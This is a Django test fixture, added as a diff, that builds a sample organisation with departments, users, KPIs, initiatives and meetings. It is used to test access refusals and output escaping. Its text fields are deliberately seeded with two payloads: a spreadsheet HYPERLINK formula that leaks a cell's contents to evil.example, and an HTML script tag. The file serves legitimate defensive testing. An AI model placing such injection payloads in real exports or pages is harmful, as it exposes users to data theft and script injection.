@@ -1,0 +1,130 @@
+"""One small organisation with something of every kind, built from the apps' own factories.
+
+Everything department-owned belongs to department B ("Billing"), so the head of department A
+and the contributor (in A) are the people who must be refused when they try to change it, and
+the head of B is the owning head. Free text carries hostile content — a spreadsheet formula
+and an HTML script tag — so every page and CSV export that shows it is tested for escaping.
+"""
+
+from dataclasses import dataclass
+from datetime import timedelta
+from typing import Any
+
+from django.utils import timezone
+
+from cco.models import Department, Role, User
+from tests.factories import UserFactory
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
+SCRIPT = '<script>alert("xss")</script>'
+HOSTILE = f"{FORMULA} {SCRIPT}"
+
+
+@dataclass
+class World:
+    department_a: Department
+    department_b: Department
+    people: dict[str, User | None]
+    objects: dict[str, Any]
+
+    def get(self, name: str) -> Any:
+        return self.objects[name]
+
+
+def build_world(
+    *,
+    department_a: Department,
+    department_b: Department,
+    cco: User,
+    executive: User,
+    head_a: User,
+    head_b: User,
+    contributor: User,
+    outsider: User,
+) -> World:
+    from accountability import services as accountability
+    from metrics.models import Metric
+    from tests.accountability.factories import (
+        ActionItemFactory,
+        BreachFactory,
+        CXIssueFactory,
+        MeetingFactory,
+        MeetingSeriesFactory,
+    )
+    from tests.metrics.factories import (
+        KPIFactory,
+        KPIObservationFactory,
+        SurveyResponseFactory,
+        TouchpointFactory,
+    )
+    from tests.roadmap.factories import (
+        DependencyFactory,
+        ExpectedResultFactory,
+        InitiativeFactory,
+        MilestoneFactory,
+    )
+
+    contributor_b = UserFactory(
+        username="contributor-b", role=Role.CONTRIBUTOR, department=department_b
+    )
+    touchpoint = TouchpointFactory(
+        name=f"Invoice query {SCRIPT}", slug="invoice-query", department=department_b
+    )
+    response = SurveyResponseFactory(
+        touchpoint=touchpoint, metric=Metric.NPS, score=2, comment=HOSTILE
+    )
+    kpi = KPIFactory(department=department_b, name=f"First-contact resolution {SCRIPT}")
+    observation = KPIObservationFactory(kpi=kpi)
+    initiative = InitiativeFactory(title=HOSTILE, department=department_b)
+    other_initiative = InitiativeFactory(department=department_b, pillar=initiative.pillar)
+    milestone = MilestoneFactory(initiative=initiative, title=HOSTILE)
+    dependency = DependencyFactory(initiative=initiative, depends_on=other_initiative)
+    expected = ExpectedResultFactory(initiative=initiative)
+    series = MeetingSeriesFactory(chair=cco)
+    meeting = MeetingFactory(series=series, scheduled_at=timezone.now() + timedelta(days=1))
+    breach = BreachFactory(touchpoint=touchpoint)
+    issue = CXIssueFactory(title=HOSTILE, department=department_b)
+    item = ActionItemFactory(
+        title=HOSTILE, description=HOSTILE, department=department_b, owner_person=contributor_b
+    )
+    accountability.action_item_update(
+        item_id=item.pk, actor=head_b, expected_version=item.version, note=HOSTILE
+    )
+    item.refresh_from_db()
+    # Opened: attendance rows exist and the agenda is built (the breach becomes a CX issue).
+    accountability.meeting_open(meeting_id=meeting.pk, actor=cco)
+    agenda_item = accountability.agenda_item_add(
+        meeting_id=meeting.pk, actor=cco, title=HOSTILE, department=department_b
+    )
+    objects: dict[str, Any] = {
+        "touchpoint": touchpoint,
+        "response": response,
+        "kpi": kpi,
+        "kpi_observation": observation,
+        "initiative": initiative,
+        "milestone": milestone,
+        "dependency": dependency,
+        "expected_result": expected,
+        "roadmap": initiative.pillar.roadmap,
+        "pillar": initiative.pillar,
+        "series": series,
+        "meeting": meeting,
+        "breach": breach,
+        "cx_issue": issue,
+        "action_item": item,
+        "agenda_item": agenda_item,
+    }
+    return World(
+        department_a=department_a,
+        department_b=department_b,
+        people={
+            "anonymous": None,
+            "outsider": outsider,
+            "contributor": contributor,
+            "head_a": head_a,
+            "head_b": head_b,
+            "executive": executive,
+            "cco": cco,
+        },
+        objects=objects,
+    )
